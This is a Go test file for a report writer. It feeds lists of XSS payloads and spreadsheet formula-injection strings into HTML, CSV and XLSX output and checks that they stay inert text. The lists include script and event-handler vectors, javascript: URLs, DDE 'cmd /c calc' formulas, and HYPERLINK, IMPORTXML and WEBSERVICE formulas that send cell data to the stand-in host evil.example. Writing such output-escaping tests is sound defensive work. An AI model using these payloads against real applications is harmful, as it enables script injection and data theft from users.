package report

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"hegui/internal/catalog"
)

// inertTexts gives texts that try to become markup or script: each vector behind each way to break out of where text stands.
func inertTexts() []string {
	breakouts := []string{
		"", `">`, `'>`, "`>", "-->", "<!-->", "]]>", "</title>", "</style>", "</script>", "</textarea>", "</code>", "</mark></p>",
		"</svg>", "</details>", "</td></tr></table>", "</h2>", "{{", "{{.}}", "\\", "\u0000", "\u2028", "&quot;&gt;", "+ADw-", "%3E", "*/",
	}
	vectors := []string{
		`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)//`,
		`<svg onload=alert(1)>`, `<svg><script>alert&#40;1)</script>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
		`<a href="javascript:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<iframe src=javascript:alert(1)>`, `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, `<embed src=//evil.example>`,
		`<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{background:url(//evil.example)}</style>`, `<base href=//evil.example/>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><button>x</button></form>`, `<body onload=alert(1)>`,
		`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<select><noscript></select><img src=x onerror=alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><img src=x onerror=alert(1)></template>`, `<x onclick=alert(1)>x</x>`,
		`onmouseover="alert(1)"`, `" autofocus onfocus=alert(1) x="`, `' onmouseover='alert(1)`, "` onmouseover=`alert(1)", `javascript:alert(1)`, `&lt;script&gt;alert(1)&lt;/script&gt;`,
		`<<script>alert(1)//<</script>`, `<script\x20type="text/javascript">alert(1);</script>`, "<script\n>alert(1)</script>", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`{{.}}`, `{{define "page.tmpl"}}x{{end}}`, `<!--<script>`, `<![CDATA[<script>alert(1)</script>]]>`, `<?php alert(1) ?>`, `<plaintext>`,
	}
	var all []string
	for _, b := range breakouts {
		for _, v := range vectors {
			all = append(all, b+v)
		}
	}
	return all
}

// formulas are texts that try to become a formula.
func formulas() []string {
	starts := []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", `"=`, `""=`, "'=", ";=", `";"=`, "a;=", "a;@", "a\t=", "a\n=", "a;\t-", "\u00a0=", "\ufeff="}
	bodies := []string{`1+1`, `cmd|'/c calc'!A0`, `HYPERLINK("http://evil.example?"&A1,"x")`, `IMPORTXML(CONCAT("http://evil.example?",A1),"//a")`, `DDE("cmd";"/C calc";"x")`, `SUM(1;2);=1+1`, `WEBSERVICE("http://evil.example")`}
	var all []string
	for _, s := range starts {
		for _, b := range bodies {
			all = append(all, s+b)
		}
	}
	return all
}

// skeleton gives the elements of a page with their attributes, in order, and no text. What stands around a text depending on
// what it says is left out: where a line may break.
func skeleton(doc *html.Node) []string {
	var out []string
	for d := range doc.Descendants() {
		switch {
		case d.Type == html.CommentNode:
			out = append(out, "<!-- "+d.Data)
		case d.Type == html.ElementNode && (d.Data == "wbr" || attribute(d, "class") == "whole"):
		case d.Type == html.ElementNode:
			out = append(out, fmt.Sprint(d.Data, d.Attr))
		}
	}
	return out
}

// Whatever a proposal says, the page has the elements and attributes it has for a harmless proposal, and the text is text.
func TestHostileTextStaysText(t *testing.T) {
	t.Parallel()
	payloads := inertTexts()
	if len(payloads) < 1000 {
		t.Fatalf("only %d payloads", len(payloads))
	}
	report := func(text func(i int) string) []byte {
		var b bytes.Buffer
		w := newHTML(&b, sampleOptions(catalog.ZH))
		w.limit = 1 << 30
		for i := range payloads {
			if err := w.Add(sample(t, text(i))); err != nil {
				t.Fatal(err)
			}
		}
		for i := range payloads {
			if err := w.Skip(&Unreadable{File: text(i), Err: errors.New(text(i))}); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	got, want := parsed(t, report(func(i int) string { return payloads[i] })), parsed(t, report(func(int) string { return "P" }))
	x, y := skeleton(got), skeleton(want)
	if !slices.Equal(x, y) {
		for i := range min(len(x), len(y)) {
			if x[i] != y[i] {
				t.Fatalf("element %d: got %s, want %s", i, x[i], y[i])
			}
		}
		t.Fatalf("got %d elements, want %d", len(x), len(y))
	}
	read := map[string]string{}
	for _, h := range all(got, "h2", "") {
		read[attribute(h, "id")] = textOf(h)
	}
	for i, p := range payloads {
		if got, want := read[fmt.Sprintf("p%d", i+1)], strings.Join(strings.Fields(Safe(p)), " "); got != want {
			t.Errorf("%q reads %q", p, got)
		}
	}
}

// The same for a page about one proposal, which shows more.
func TestHostileTextInAPageOfOne(t *testing.T) {
	t.Parallel()
	want := skeleton(parsed(t, writtenTable(t, HTML, sampleOptions(catalog.EN), sample(t, "P"))))
	for i, p := range inertTexts() {
		if i%7 != 0 { // all breakouts and vectors, not each with each
			continue
		}
		if got := skeleton(parsed(t, writtenTable(t, HTML, sampleOptions(catalog.EN), sample(t, p)))); !slices.Equal(got, want) {
			t.Errorf("%q changes the page", p)
		}
	}
}

// However a program separates cells, none begins with what it would calculate.
func TestNoFormulaInCSV(t *testing.T) {
	t.Parallel()
	for _, p := range slices.Concat(formulas(), inertTexts()[:40]) {
		b := writtenTable(t, CSV, sampleOptions(catalog.ZH), sample(t, p), &Unreadable{File: p, Err: errors.New(p)})
		for _, separator := range []rune{',', ';', '\t'} {
			for _, record := range records(t, b, separator) {
				for _, cell := range record {
					if start := strings.TrimLeft(cell, " \t\r\n\"\u00a0\ufeff"); start != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(start)[0]) {
						t.Errorf("%q separated by %q gives the cell %q", p, separator, cell)
					}
				}
			}
		}
		if strings.ContainsAny(strings.ReplaceAll(string(b), "\r\n", ""), "\t\r\n") {
			t.Errorf("%q leaves a control character", p)
		}
	}
}

// A workbook holds no formula, and the text of a proposal comes back as text.
func TestNoFormulaInWorkbook(t *testing.T) {
	t.Parallel()
	payloads := slices.Concat(formulas(), inertTexts()[:200])
	var items []any
	for _, p := range payloads {
		items = append(items, sample(t, p))
	}
	items = append(items, &Unreadable{File: "=1+1", Err: errors.New("@SUM(A1)")})
	b := writtenTable(t, XLSX, sampleOptions(catalog.EN), items...)
	for name, content := range unzip(t, b) {
		if strings.HasPrefix(name, "xl/worksheets/sheet") && strings.Contains(content, "<f>") || strings.Contains(content, "externalLink") || strings.Contains(content, "ddeLink") {
			t.Errorf("%s holds a formula or a link", name)
		}
	}
	rows := sheet(t, b, "Proposals")
	for i, p := range payloads {
		if got := rows[i+1]["C"]; got != inert(p) {
			t.Errorf("%q comes back as %q", p, got)
		}
	}
}

func FuzzInert(f *testing.F) {
	for _, s := range formulas() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		if err := w.Write([]string{"a", inert(s)}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		for _, separator := range []rune{',', ';', '\t'} {
			for _, record := range records(t, b.Bytes(), separator) {
				for _, cell := range record {
					if start := strings.TrimLeft(cell, " \"'"); start != cell && strings.HasPrefix(cell, "'") {
						continue
					}
					if start := strings.TrimLeft(cell, " \""); start != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(start)[0]) {
						t.Errorf("%q separated by %q gives the cell %q", s, separator, cell)
					}
				}
			}
		}
	})
}
